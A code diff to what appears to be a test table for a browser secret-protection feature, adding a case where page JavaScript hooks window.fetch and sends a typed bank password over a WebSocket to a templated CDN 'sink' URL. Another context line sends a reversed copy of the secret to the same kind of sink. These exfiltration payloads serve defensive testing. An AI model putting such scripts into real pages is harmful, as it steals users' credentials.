@@ -236,7 +236,16 @@ std::vector<Group> groups() {
                     .page = secret_poller("'{{CDN}}/sink/{{M}}?d=' + [...document.getElementById('q').value].reverse().join('')"),
                     .flags_done = true,
                     .evidence = Evidence::Cdn},
-                   // The secret's rule holds for its origin, not for one page of one tab.
+                   // A socket cannot be paused: a bound tab's sockets go only to the secret's sites.
+                   {.name = "a typed secret, over a WebSocket to the page's own CDN",
+                    .repl = "await type(t, '#q', secret('bank_pw'))",
+                    .page = "const f = window.fetch; window.fetch = function () { const v = document.getElementById('q').value; "
+                            "if (v && !window.s{{M}}) { const done = () => localStorage.setItem('rt-{{M}}', '1'); "
+                            "try { window.s{{M}} = new WebSocket('{{CDN}}'.replace(/^http/, 'ws') + '/sink/{{M}}?d=' + v); "
+                            "window.s{{M}}.onopen = window.s{{M}}.onerror = window.s{{M}}.onclose = done; } catch (e) { done(); } } "
+                            "return f.apply(this, arguments); }; 1",
+                    .flags_done = true,
+                    .evidence = Evidence::Cdn},
                    {.name = "a typed secret, kept in the origin's storage and sent by a new tab of it",
                     .repl = "await type(t, '#q', secret('bank_pw')); "
                             "await execInTab(t, \"localStorage.setItem('k{{M}}', document.getElementById('q').value); 1\"); "
